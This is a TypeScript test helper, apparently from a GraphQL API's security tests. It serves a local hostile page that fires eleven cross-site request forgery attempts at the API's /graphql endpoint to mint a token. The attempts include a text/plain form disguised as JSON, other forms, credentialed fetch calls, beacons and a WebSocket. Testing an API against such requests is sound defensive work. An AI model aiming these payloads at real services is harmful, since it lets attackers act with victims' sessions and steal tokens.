import { createServer } from 'node:http';

/** A site of somebody else. */
export interface AttackSite extends AsyncDisposable {
  readonly url: string;
}

/** Serves a page that tries all that a page may send to another origin, on a port of its own: to browsers the same site as the API, which gets its cookies. */
export async function serveAttack(api: string): Promise<AttackSite> {
  const server = createServer((_, response) => response.setHeader('content-type', 'text/html').end(pageFor(api)));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  const port = typeof address === 'object' && address !== null ? address.port : 0;
  return {
    url: `http://127.0.0.1:${port}/`,
    [Symbol.asyncDispose]: async () => {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

/** How many requests the page makes; a fetch with JSON first asks whether it may, and does not get further. */
export const ATTACKS = 11;

const MUTATION = 'mutation { createToken(input: { name: "stolen" }) { token } }';
const BODY = JSON.stringify({ query: MUTATION });

function pageFor(api: string): string {
  const url = `${api}/graphql`;
  const get = `${url}?query=${encodeURIComponent(MUTATION)}`;
  // The well-known trick: a form of plain text whose one field reads as JSON.
  const trick = `<input name='${BODY.slice(0, -1)},"x":"' value='"}'>`;
  const field = `<input name="query" value='${MUTATION}'>`;
  return `<!doctype html><title>Attack</title>
    ${['a', 'b', 'c', 'd'].map((name) => `<iframe name="${name}"></iframe>`).join('')}
    <form target="a" method="post" action="${url}" enctype="text/plain">${trick}</form>
    <form target="b" method="post" action="${url}">${field}</form>
    <form target="c" method="post" action="${url}" enctype="multipart/form-data">${field}</form>
    <form target="d" method="get" action="${url}">${field}</form>
    <script>
      const body = ${JSON.stringify(BODY)};
      const url = ${JSON.stringify(url)};
      const settled = [
        fetch(url, { method: 'POST', mode: 'no-cors', credentials: 'include', body }),
        fetch(url, { method: 'POST', mode: 'no-cors', credentials: 'include', body, headers: { 'content-type': 'text/plain' } }),
        fetch(url, { method: 'POST', mode: 'cors', credentials: 'include', body, headers: { 'content-type': 'application/json' } }),
        fetch(${JSON.stringify(get)}, { mode: 'no-cors', credentials: 'include' }),
      ];
      new Image().src = ${JSON.stringify(get)};
      navigator.sendBeacon(url, body);
      navigator.sendBeacon(url, new Blob([body], { type: 'application/x-www-form-urlencoded' }));
      for (const form of document.forms) form.submit();
      const socket = new WebSocket(url.replace('http', 'ws') + '/ws', 'graphql-transport-ws');
      globalThis.socketEnd = new Promise((resolve) => {
        socket.onopen = () => resolve('open');
        socket.onclose = ({ code }) => resolve('closed ' + code);
      });
      globalThis.fetched = Promise.allSettled(settled);
    </script>`;
}
